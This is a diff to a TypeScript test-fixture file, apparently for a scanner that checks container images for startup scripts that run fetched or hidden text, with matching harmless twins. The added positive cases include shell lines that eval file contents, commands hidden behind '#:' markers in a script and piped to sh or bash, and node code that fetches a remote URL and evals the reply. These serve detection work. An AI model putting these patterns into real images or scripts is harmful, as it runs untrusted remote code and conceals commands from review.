@@ -78,6 +78,29 @@ function honest(name: string, files: Files, config: ImageCase['spec']['config'])
   return { name, spec: image(files, config) };
 }
 
+function script(text: string, files: Files = {}): ImageCase {
+  return found(text, starts(`${text}\nexec nginx`, files));
+}
+
+const IN_A: Files = { 'opt/a': `${FETCH}\n` };
+const BEHIND_MARKS = `\nexec nginx\n#:${FETCH}`;
+
+/** Texts that a script takes from somewhere and runs, and programs that run what they fetch by a promise. */
+export const TAKEN_AND_RUN: readonly ImageCase[] = [
+  script('eval "$(</opt/a)"', IN_A),
+  script('while IFS= read -r line; do eval "$line"; done < /opt/a', IN_A),
+  script('cat /opt/a | while read -r line; do sh -c "$line"; done', IN_A),
+  script('ln -s /opt/a /usr/local/bin/zz; sh /usr/local/bin/zz', IN_A),
+  script(`sed -n '/^#:/s/^#://p' "$0" | sh${BEHIND_MARKS}`),
+  script(`grep '^#:' "$0" | cut -c3- | sh${BEHIND_MARKS}`),
+  script(`grep -F '#:' "$0" | tail -n 1 | cut -d: -f2- | bash${BEHIND_MARKS}`),
+  words('node', '-e', 'fetch("https://files.backend.example/u").then(r => r.text()).then(eval)'),
+  inApp('node x.js', {
+    'app/x.js':
+      'fetch("https://files.backend.example/u")\n  .then((answer) => answer.text())\n  .then( eval );\n',
+  }),
+];
+
 /** Honest images that start by the same ways. */
 export const WAYS_TO_SHELLS_TWINS: readonly ImageCase[] = [
   honest(
@@ -116,6 +139,18 @@ export const WAYS_TO_SHELLS_TWINS: readonly ImageCase[] = [
       Entrypoint: ['bash', '-c', 'exec node /app/a.js'],
       Env: [PATH, 'NODE_OPTIONS=--require /app/tracing.js', 'BASH_ENV=/etc/bash.env', 'PYTHONPATH=/app'],
     },
+  ),
+  {
+    name: 'lines that are read and are data',
+    spec: starts(
+      'while read -r host; do echo "$host" >> /etc/app.hosts; done < /opt/hosts\nversion=$(</opt/version)\ngrep "^server" /etc/app.conf | cut -d= -f2- | sort\nsed -n "1,5p" /opt/hosts\nexec nginx',
+      { 'opt/hosts': 'a.example.com\nb.example.com\n', 'opt/version': '1.2\n', 'etc/app.conf': 'server=a\n' },
+    ),
+  },
+  honest(
+    'a page that fetches and shows',
+    { 'app/x.js': 'fetch("https://api.example.com/v1")\n  .then((r) => r.json())\n  .then(show);\n' },
+    { Cmd: ['node', 'x.js'], WorkingDir: '/app' },
   ),
   {
     name: 'xargs, watch and parallel that start nothing of the network',
